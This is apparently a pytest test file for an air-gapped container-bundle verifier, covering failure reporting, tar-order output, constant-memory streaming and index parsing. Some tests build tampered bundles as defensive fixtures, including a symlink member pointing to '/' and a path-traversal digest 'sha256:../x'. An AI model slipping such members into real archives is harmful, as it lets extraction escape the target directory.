    lines = result.stdout.splitlines()
    count = len(report["failures"])
    assert lines[0] == f"Bundle NOT verified: {count} failure(s)"
    listed = lines[lines.index("Failures:") + 1 :]
    assert listed == [f"  {f['kind']}: {f['subject']}: {f['message']}" for f in report["failures"]]


@pytest.mark.e2e
def test_every_failure_is_reported_not_just_the_first(corpus: Corpus, tmp_path: Path) -> None:
    step = tamper.flip_byte(corpus.good, tmp_path / "1.tar", corpus.app_layer)
    step = tamper.drop(step, tmp_path / "2.tar", corpus.docker.components)
    step = tamper.insert(step, tmp_path / "3.tar", tamper.symlink("images/link", "/"))
    result, report = verify_json(step, "--key", corpus.key.public)
    assert result.returncode == 1
    assert has_failure(report, "member", corpus.app_layer, "does not match")
    assert has_failure(report, "member", corpus.docker.components, "missing")
    assert has_failure(report, "member", "images/link", "symlink")


@pytest.mark.e2e
def test_damaged_members_are_reported_in_tar_order(corpus: Corpus, tmp_path: Path) -> None:
    """Workers hash the largest members first (scan._HashPool); the report still lists
    damaged members in the order they are in the tar."""
    bundle = tmp_path / "every-blob.tar"
    bundle.write_bytes(corpus.good.read_bytes())
    blobs = [(n, s) for n, s in tamper.spans(bundle).items() if n.startswith("images/blobs/")]
    sizes = [span.size for _, span in blobs]
    assert sizes != sorted(sizes, reverse=True)  # largest-first order differs from tar order
    with bundle.open("r+b") as out:
        for _, span in blobs:
            out.seek(span.data + span.size // 2)
            byte = out.read(1)[0]
            out.seek(-1, 1)
            out.write(bytes([byte ^ 0x01]))
    result, report = verify_json(bundle, "--key", corpus.key.public)
    assert result.returncode == 1
    damaged = [
        f["subject"]
        for f in report["failures"]
        if f["kind"] == "member" and "does not match the manifest" in f["message"]
    ]
    assert damaged == [name for name, _ in blobs]


# -- constant memory ----------------------------------------------------------------------

BIG = 200 << 20
RSS_LIMIT = 100 << 20
_PEAK_RSS = (
    "import resource, subprocess, sys\n"
    "code = subprocess.run(sys.argv[2:]).returncode\n"
    "peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss\n"
    "open(sys.argv[1], 'w').write(str(peak * 1024))\n"
    "sys.exit(code)\n"
)


def _verify_peak_rss(bundle: Path, key: Path, scratch: Path) -> tuple[int, dict[str, Any]]:
    """Run verify as the only child of a small wrapper and read its peak RSS in bytes."""
    peak_file = scratch / f"{bundle.name}.rss"
    result = subprocess.run(
        [
            sys.executable,
            "-c",
            _PEAK_RSS,
            str(peak_file),
            *AIRGAP,
            "verify",
            str(bundle),
            "--key",
            str(key),
            "--format",
            "json",
        ],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert result.returncode == 0, result.stdout[-2000:] + result.stderr
    return int(peak_file.read_text()), json.loads(result.stdout)


@pytest.mark.e2e
@pytest.mark.slow
def test_verify_streams_a_large_bundle_in_constant_memory(
    tmp_path: Path,
    registry_factory: RegistryFactory,
    signing_key: SigningKey,
    capi_bundle: CollectedBundle,
) -> None:
    layout = OciLayout(tmp_path / "layout")
    make_big_image(layout, "big", BIG)
    image = push_image(layout, "big", registry_factory("plain"), "big/payload", "v1")
    spec = write_spec(tmp_path / "spec.yaml", {"images": [image.reference]})
    bundle = tmp_path / "big.tar"
    collected = run_airgap("collect", spec, "--sign-key", signing_key.private, "-o", bundle, "-q")
    assert collected.returncode == 0, collected.stderr
    assert bundle.stat().st_size > BIG

    peak, report = _verify_peak_rss(bundle, signing_key.public, tmp_path)
    assert report["verified"] is True
    assert report["images"][0]["size"] > BIG
    small_peak, _ = _verify_peak_rss(capi_bundle.path, signing_key.public, tmp_path)
    print(f"verify peak RSS: {peak / 2**20:.1f} MiB, small bundle {small_peak / 2**20:.1f} MiB")
    assert peak < RSS_LIMIT, f"verify peaked at {peak >> 20} MiB on a {BIG >> 20} MiB bundle"
    # the large bundle costs no more than the 130 KiB one, give or take allocator noise
    assert peak - small_peak < 16 << 20, (peak >> 20, small_peak >> 20)


@pytest.mark.unit
def test_index_json_read_compactly_gives_the_full_parse_findings(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The layout check reads index.json's entries as compact tuples while it is what
    collect writes (issue 12, scale RSS); any index.json gives the very findings the full
    parse gives, whether the compact read takes it or leaves it to the full parse."""
    from airgap.bundle.format import ImageRecord
    from airgap.bundle.manifest import BundleManifest
    from airgap.oci.layout import index_json
    from airgap.oci.manifest import OCI_MANIFEST, Descriptor
    from airgap.verify import layoutcheck as content

    images = [
        ImageRecord(f"r/i{n}:1", f"sha256:{n:064x}", OCI_MANIFEST, ["linux/amd64"], 9)
        for n in range(4)
    ]
    manifest = BundleManifest("2026-11-23T00:00:00Z", "0.1.0", [], images, [])
    entries = [(i.reference, Descriptor(i.media_type, i.digest, 9)) for i in images]
    written = json.loads(index_json(entries))
    manifests = written["manifests"]
    variants: list[Any] = [
        written,
        {**written, "manifests": manifests[::-1]},  # another order
        {**written, "manifests": [*manifests, manifests[0]]},  # a name twice
        {**written, "manifests": [*manifests[1:], {**manifests[0], "annotations": {}}]},
        {**written, "manifests": [*manifests, {**manifests[0], "annotations": {"x": "r/x:1"}}]},
        {**written, "manifests": [{**manifests[0], "platform": {"os": "linux"}}, *manifests]},
        {**written, "manifests": [{**manifests[0], "digest": "sha256:../x"}]},
        {**written, "manifests": [{**manifests[0], "size": -1}]},
        {**written, "manifests": [{**manifests[0], "size": True}]},
        {**written, "mediaType": OCI_MANIFEST},
        {**written, "subject": manifests[0]},
        {"manifests": manifests},
        manifests,
    ]
    for variant in [*variants, "not json"]:
        data = variant.encode() if isinstance(variant, str) else json.dumps(variant).encode()
        members = {content.INDEX_MEMBER: data}
        present = {content.INDEX_MEMBER: len(data)}
        quick = content.check_layout(manifest, members.__getitem__, present)
        pieces = content.check_layout(
            manifest,
            members.__getitem__,
            present,
            lambda name, data=data: (data[i : i + 7] for i in range(0, len(data), 7)),  # type: ignore[misc]  # mypy#15459
        )
        with monkeypatch.context() as patched:
            patched.setattr(content, "_quick_entries", lambda chunks, manifest: None)
            full = content.check_layout(manifest, members.__getitem__, present)
        assert quick == pieces == full, variant
    assert content._quick_entries(iter([json.dumps(written).encode()]), manifest) is not None


@pytest.mark.unit
def test_members_index_finds_each_listed_record_as_a_dict_would() -> None:
    """The scan keeps verified members as offsets beside the manifest's records (issue 12,
    scale RSS): a name finds the record listed last under it, blob or not, as
    ``{f.path: f for f in files}`` would, and ``listed_twice`` says when a path repeats."""
    from airgap.bundle.format import FileRecord
    from airgap.verify.scanresult import Member, Members

    blob = "images/blobs/sha256/"
    files = [
        FileRecord(blob + "b" * 64, "b" * 64, 1),
        FileRecord("images/index.json", "1" * 64, 2),
        FileRecord(blob + "a" * 64, "a" * 64, 3),
        FileRecord(blob + "c" * 64, "d" * 64, 4),  # a blob name that is not its digest
    ]
    members = Members()
    members.index(files)
    assert not members.listed_twice
    for number, record in enumerate(files):
        assert members.listed(record.key) is record
        members.add(Member.of(record, 100 + number, hashed=number != 2))
    members.add(Member("outside", 7, 5, "e" * 64))  # a record not indexed
    assert len(members) == 5 and set(members) == {f.path for f in files} | {"outside"}
    assert members[blob + "a" * 64].offset == 102 and not members[blob + "a" * 64].hashed
    assert members[blob + "c" * 64].sha256 == "d" * 64 and members["outside"].size == 5
    assert blob + "d" * 64 not in members and blob + "A" * 64 not in members
    with pytest.raises(KeyError):
        members[blob + "d" * 64]

    twice = Members()
    again = FileRecord(blob + "a" * 64, "a" * 64, 9)
    twice.index([*files, again])
    assert twice.listed_twice and twice.listed(again.key) is again
    shadowed = Members()
    shadowed.index(
        [FileRecord(blob + "d" * 64, "d" * 64, 1), FileRecord(blob + "d" * 64, "e" * 64, 2)]
    )
    assert shadowed.listed_twice
    assert shadowed.listed(FileRecord(blob + "d" * 64, "d" * 64, 1).key).sha256 == "e" * 64  # type: ignore[union-attr]
